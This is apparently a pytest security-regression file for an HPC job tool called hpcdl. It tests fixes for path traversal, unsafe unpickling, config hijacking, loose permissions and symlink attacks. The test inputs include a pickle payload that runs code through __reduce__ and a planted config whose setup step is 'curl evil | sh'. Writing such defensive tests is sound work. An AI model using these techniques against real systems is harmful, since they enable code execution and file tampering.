"""Paths, trust and private files (issue 19, findings 3, 4, 5, 7): `clean` deletes only hpcdl's
own job folders, `status` never loads a pickle someone else could have written, a `./site` folder
overrides nothing unless named, everything hpcdl creates is private whatever the umask, and a
symlink planted at a temporary's name is never followed."""

from __future__ import annotations

import builtins
import grp
import json
import os
import stat
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import REPO, run_cli

from hpcdl import Job
from hpcdl.scheduler import JobHandle

# A pid no process can have (above the kernel's pid_max): a local job that is long gone.
DEAD_PID = str(int(Path("/proc/sys/kernel/pid_max").read_text()) + 1)
DAY = 86400


def planted_line(folder: str | Path, job_id: str = DEAD_PID, age_days: float = 2) -> str:
    """A registry line someone wrote: a finished (gone) local job whose folder is ``folder``."""
    handle = JobHandle(job_id=job_id, name="planted", site="local", scheduler="local",
                       folder=str(folder), submitted_at=time.time() - age_days * DAY,
                       local_ids=[job_id])  # fmt: skip
    return handle.model_dump_json() + "\n"


def plant_registry(root: Path, *lines: str) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    registry = root / "registry.jsonl"
    with open(registry, "a") as f:
        f.writelines(lines)
    return registry


# -- finding 3: clean deletes only hpcdl's job folders inside the root ----------------------------
def test_clean_deletes_nothing_outside_the_job_root(job_root, tmp_path):
    precious = tmp_path / "precious.txt"  # in the job root's parent
    precious.write_text("keep me")
    outside = tmp_path / "elsewhere"
    (outside / "20260101-000000-x-abcdef").mkdir(parents=True)
    (outside / "data.txt").write_text("keep me too")
    job_root.mkdir()
    link = job_root / "20260101-000000-link-abcdef"  # named like a job folder, points outside
    link.symlink_to(outside)
    sweeps = job_root / "sweeps"  # inside the root, but no job folder
    (sweeps / "mine").mkdir(parents=True)
    real = job_root / "20260101-000000-old-123abc"  # a real job folder of this user
    real.mkdir()
    (real / "log.out").write_text("old log")
    bad = [job_root / "..", link, outside, outside / "20260101-000000-x-abcdef", sweeps,
           job_root / "20260101-000000-old-123abc" / ".." / ".."]  # fmt: skip
    lines = [planted_line(p, str(int(DEAD_PID) + i)) for i, p in enumerate(bad, 1)]
    vanished = job_root / "20260101-000000-gone-abcdef"  # deleted by hand: only its line goes
    plant_registry(
        job_root, *lines, planted_line(real), planted_line(vanished, str(int(DEAD_PID) + 99))
    )

    proc = run_cli("clean", "--older-than", "1")
    assert proc.returncode == 0, proc.stderr
    assert precious.read_text() == "keep me" and job_root.is_dir()
    assert (outside / "data.txt").read_text() == "keep me too"
    assert (outside / "20260101-000000-x-abcdef").is_dir() and link.is_symlink()
    assert (sweeps / "mine").is_dir()
    assert not real.exists()  # the one real job folder went
    assert proc.stdout.splitlines()[-1].startswith("removed 2 finished job(s)")
    for i, path in enumerate(bad, 1):  # each refused line named in a warning and kept
        assert f"not deleting job {int(DEAD_PID) + i}: its folder {str(path)!r}" in proc.stderr
    kept = (job_root / "registry.jsonl").read_text()
    assert kept == "".join(lines)
    assert stat.S_IMODE((job_root / "registry.jsonl").stat().st_mode) == 0o600


# -- finding 4: status never unpickles what someone else could have written ----------------------
class Payload:
    """Unpickling this creates ``MARKER`` (a stand-in for any code a pickle can run)."""

    marker = ""

    def __reduce__(self):
        return (builtins.open, (self.marker, "w"))


def plant_pickle(folder: Path, marker: Path, job_id: str = DEAD_PID) -> None:
    import pickle

    folder.mkdir(parents=True, exist_ok=True)
    payload = Payload()
    payload.marker = str(marker)
    (folder / f"{job_id}_0_result.pkl").write_bytes(pickle.dumps((payload, None)))


@pytest.mark.root  # a folder owned by another user (chown): make test runs it as root
def test_status_never_unpickles_a_planted_result(job_root, tmp_path):
    marker = tmp_path / "payload-ran"
    job_root.mkdir(mode=0o700)
    outside = tmp_path / "elsewhere" / "20260101-000000-x-abcdef"
    writable = job_root / "20260101-000000-open-abcdef"  # in the root, but anyone may write
    linked = job_root / "20260101-000000-link-abcdef"  # in the root, a symlink to outside
    theirs = job_root / "20260101-000000-theirs-abcdef"  # in the root, another user's
    for folder in (outside, writable, theirs):
        plant_pickle(folder, marker)
    writable.chmod(0o777)
    linked.symlink_to(outside)
    cases = [outside, writable, linked]
    if os.geteuid() == 0:
        os.chown(theirs, 65534, 65534)
        os.chown(theirs / f"{DEAD_PID}_0_result.pkl", 65534, 65534)
        cases.append(theirs)
    plant_registry(job_root, *[planted_line(p) for p in cases])

    proc = run_cli("status")
    assert proc.returncode == 0, proc.stderr
    assert not marker.exists(), "a planted pickle was loaded"
    assert proc.stdout.count("FAILED") >= len(cases)  # local: no outcome is a failure

    # The same check guards every caller (a sweep's submissions.jsonl feeds the same function).
    from hpcdl.scheduler.submission import folder_state

    for folder in cases:
        assert folder_state(folder, DEAD_PID) == "UNKNOWN"
    assert not marker.exists()


def test_a_jobs_outcome_comes_from_its_json_record(job_root):
    ok = Job(command=["true"], time="5m").submit()
    failed = Job(command=["false"], time="5m").submit()
    assert ok.wait(timeout=60) == "COMPLETED" and failed.wait(timeout=60) == "FAILED"
    for handle, outcome in ((ok, "success"), (failed, "error")):
        folder, pid = Path(handle.folder), handle.local_ids[0]
        record = json.loads((folder / f"{pid}_0_outcome.json").read_text())
        assert record["outcome"] == outcome and record["job_id"] == pid
        assert stat.S_IMODE((folder / f"{pid}_0_outcome.json").stat().st_mode) == 0o600
        (folder / f"{pid}_0_result.pkl").unlink()  # no pickle needed
    assert (ok.state(), failed.state()) == ("COMPLETED", "FAILED")


def test_an_old_folder_of_this_user_still_reads_its_pickle(job_root, tmp_path):
    """A job folder from before the JSON record: private, this user's, in the job root."""
    import pickle

    from hpcdl.scheduler.submission import folder_state

    job_root.mkdir(mode=0o700)
    folder = job_root / "20260101-000000-old-abcdef"
    folder.mkdir(mode=0o700)
    (folder / "7_0_result.pkl").write_bytes(pickle.dumps(("success", None)))
    (folder / "7_0_result.pkl").chmod(0o600)
    plant_registry(job_root, planted_line(folder, "7"))
    assert folder_state(folder, "7") == "COMPLETED"
    (folder / "7_0_result.pkl").chmod(0o622)  # now others may write it: no longer trusted
    assert folder_state(folder, "7") == "UNKNOWN"


# -- finding 5: ./site overrides nothing unless named -------------------------------------------
def test_a_site_folder_in_the_current_directory_overrides_nothing(tmp_path, monkeypatch):
    from hpcdl.site import PACKAGE_SITE_DIR, load_site, site_origins

    monkeypatch.delenv("HPCDL_SITE_PATH")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("XDG_CONFIG_DIRS", str(tmp_path / "xdg"))
    site = tmp_path / "checkout/site"
    site.mkdir(parents=True)
    planted = "name: local\nscheduler: local\ndescription: planted\nsetup: ['curl evil | sh']\n"
    (site / "local.yaml").write_text(planted)
    (site / "mine.yaml").write_text(planted.replace("name: local", "name: mine"))
    monkeypatch.chdir(tmp_path / "checkout")

    assert site_origins()["local"] == (PACKAGE_SITE_DIR / "local.yaml", "package")
    assert "mine" not in site_origins()
    assert load_site("local").setup == [] and load_site().description != "planted"
    proc = run_cli("site", "list", cwd=Path.cwd())
    assert proc.returncode == 0, proc.stderr
    assert "mine" not in proc.stdout and str(site) not in proc.stderr
    assert "local (default)" in proc.stdout and "package" in proc.stdout
    # Named, it is used: by path, or its folder on $HPCDL_SITE_PATH (origin shown).
    assert load_site("./site/local.yaml").description == "planted"
    monkeypatch.setenv("HPCDL_SITE_PATH", "site")
    assert site_origins()["mine"] == ((site / "mine.yaml").resolve(), "HPCDL_SITE_PATH")
    proc = run_cli("site", "list", cwd=Path.cwd())
    row = next(ln.split() for ln in proc.stdout.splitlines() if ln.startswith("mine "))
    assert row[1:] == ["HPCDL_SITE_PATH", str((site / "mine.yaml").resolve())]


# -- finding 7: private whatever the umask; temporaries never follow a symlink ------------------
@pytest.fixture
def umask022() -> Iterator[None]:
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def loose(*trees: Path, allowed: int = 0) -> list[str]:
    """Every folder or file under ``trees`` (themselves included) with a permission bit for the
    group or others beyond ``allowed``; symlinks are skipped (their mode means nothing)."""
    bad = []
    for tree in trees:
        paths = [tree, *tree.rglob("*")]
        for p in paths:
            st = os.lstat(p)
            if not stat.S_ISLNK(st.st_mode) and stat.S_IMODE(st.st_mode) & 0o077 & ~allowed:
                bad.append(f"{p}: {oct(stat.S_IMODE(st.st_mode))}")
    return bad


def test_a_job_submission_creates_only_private_files(job_root, umask022):
    handle = Job(command=[sys.executable, "-c", "print('hi')"], time="5m").submit()
    assert handle.wait(timeout=60) == "COMPLETED"
    assert "hi" in handle.log_paths()[0].read_text().splitlines()
    assert (job_root / "registry.jsonl").is_file() and (job_root / ".registry.lock").is_file()
    assert loose(job_root) == []
    assert os.umask(0o022) == 0o022  # the caller's umask is left as it was


def test_a_training_run_creates_only_private_files(job_root, tmp_path, umask022):
    sys.path.insert(0, str(REPO / "tests/helpers"))
    from train_setup import env_with_helpers, write_config, write_digits

    digits = write_digits(tmp_path / "digits")
    config = write_config(tmp_path / "train.yaml", digits, tmp_path / "runs", epochs=1,
                          job__tasks_per_node=1)  # fmt: skip
    proc = run_cli("train", str(config), "--wait", env=env_with_helpers(), timeout=300)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    run_dir = Path(proc.stdout.split("run folder: ")[1].split()[0])
    assert any(run_dir.rglob("*.pt")) or any(run_dir.rglob("checkpoint*"))
    assert any(p.name == "wandb" for p in run_dir.rglob("*")), "no W&B folder to check"
    assert loose(tmp_path / "runs", job_root) == []


def test_a_local_sweep_creates_only_private_files(job_root, umask022):
    from hpcdl.hpo import Sweep, SweepSpec

    spec = SweepSpec.model_validate({
        "name": "private", "objective": "tests.helpers.objectives:curve",
        "space": {"x": {"type": "uniform", "low": 0.0, "high": 1.0}},
        "sampler": {"name": "random", "seed": 0}, "trials": 2, "parallelism": 1,
        "resources": {"site": "local", "time": "10m"},
    })  # fmt: skip
    sweep = Sweep(spec)
    sweep.run()
    sweep.wait(timeout=180)
    assert [r["state"] for r in sweep.status()] == ["complete"] * 2
    assert (job_root / "sweeps" / "private").is_dir()
    assert loose(job_root) == []


def test_share_group_gives_the_group_read_access_only(job_root, tmp_path, umask022):
    group = grp.getgrgid(os.getegid()).gr_name
    profile = tmp_path / "shared.yaml"
    profile.write_text(f"name: shared\nscheduler: local\nshare: group\nshare_group: {group}\n")
    handle = Job(command=["true"], time="5m", site=str(profile)).submit()
    assert handle.wait(timeout=60) == "COMPLETED"
    folder = Path(handle.folder)
    assert stat.S_IMODE(folder.stat().st_mode) == 0o750
    assert stat.S_IMODE(job_root.stat().st_mode) == 0o2750  # set-group-ID: the group inherits
    assert job_root.stat().st_gid == os.getegid()
    assert loose(job_root, allowed=0o050) == []  # the group reads; nobody else anything
    assert any(stat.S_IMODE(p.stat().st_mode) == 0o640 for p in folder.iterdir() if p.is_file())
    assert stat.S_IMODE((job_root / "registry.jsonl").stat().st_mode) == 0o600  # records: own


def test_share_group_needs_share_group_mode(tmp_path, capsys):
    from conftest import one_line_error

    from hpcdl.cli import main

    profile = tmp_path / "bad.yaml"
    profile.write_text("name: bad\nscheduler: local\nshare_group: users\n")
    line = one_line_error(capsys, main(["site", "show", str(profile)]))
    assert "share_group needs share: group" in line


def test_a_symlink_planted_at_a_temporary_name_is_not_followed(tmp_path, monkeypatch, umask022):
    import hpcdl.util as util

    victim = tmp_path / "victim.txt"
    victim.write_text("untouched")
    target = tmp_path / "out" / "config.yaml"
    target.parent.mkdir()
    # The name an older hpcdl used (.NAME.tmp-PID): once written through, now never drawn.
    (target.parent / f".config.yaml.tmp-{os.getpid()}").symlink_to(victim)
    util.atomic_write_text(target, "first")
    assert victim.read_text() == "untouched"
    assert target.read_text() == "first" and not target.is_symlink()
    # The exact name drawn next, planted: O_EXCL|O_NOFOLLOW refuses it and another is drawn.
    names = iter(["planted", "fresh", "fresh2"])
    monkeypatch.setattr(util.secrets, "token_hex", lambda n: next(names))
    (target.parent / f".config.yaml.tmp-{os.getpid()}-planted").symlink_to(victim)
    util.atomic_write_text(target, "new content")
    assert victim.read_text() == "untouched"
    assert target.read_text() == "new content" and not target.is_symlink()
    assert stat.S_IMODE(target.stat().st_mode) == 0o644  # in place: the caller's umask
    with util.share_umask():
        util.atomic_write_json(tmp_path / "out" / "r.json", {"a": 1})
    assert stat.S_IMODE((tmp_path / "out" / "r.json").stat().st_mode) == 0o600

    monkeypatch.setattr(util.secrets, "token_hex", lambda n: "planted")
    with pytest.raises(FileExistsError):  # every name taken: an error, never a followed link
        util.atomic_write_text(target, "again")
    assert victim.read_text() == "untouched" and target.read_text() == "new content"


@pytest.mark.slurm
def test_a_slurm_job_under_umask_022_writes_private_files(devcluster, job_root, umask022):
    handle = Job(command=["sh", "-c", "echo hi; umask"], time="5m", site=devcluster).submit()
    try:
        assert handle.wait(timeout=180) == "COMPLETED", handle.log_paths()[1].read_text()
    finally:
        handle.cancel()
    out = handle.log_paths()[0].read_text().splitlines()
    assert "hi" in out and "0077" in out, out  # sbatch passed the umask on (SLURM_UMASK)
    assert loose(job_root) == []


def test_a_training_run_is_private_even_beside_a_running_wandb_service(
    job_root, tmp_path, umask022, monkeypatch
):
    """A W&B service started by the calling process (under umask 022) is exported to children
    as WANDB_SERVICE; a run that used it had that service write its W&B files 0644 (and on a
    cluster, sbatch --export=ALL would hand a compute node the login node's socket)."""
    import wandb

    sys.path.insert(0, str(REPO / "tests/helpers"))
    from train_setup import env_with_helpers, write_config, write_digits

    wandb.teardown()  # an earlier test's service (setup() would return it, exporting nothing)
    monkeypatch.delenv("WANDB_SERVICE", raising=False)
    wandb.setup()  # the service of this process, made under umask 022
    try:
        assert os.environ.get("WANDB_SERVICE"), "wandb exports its service to children"
        digits = write_digits(tmp_path / "digits")
        config = write_config(tmp_path / "train.yaml", digits, tmp_path / "runs", epochs=1,
                              job__tasks_per_node=1)  # fmt: skip
        proc = run_cli("train", str(config), "--wait", env=env_with_helpers(), timeout=300)
        assert proc.returncode == 0, proc.stdout + proc.stderr
        assert any(p.name == "wandb" for p in (tmp_path / "runs").rglob("*"))
        assert loose(tmp_path / "runs", job_root) == []
    finally:
        wandb.teardown()
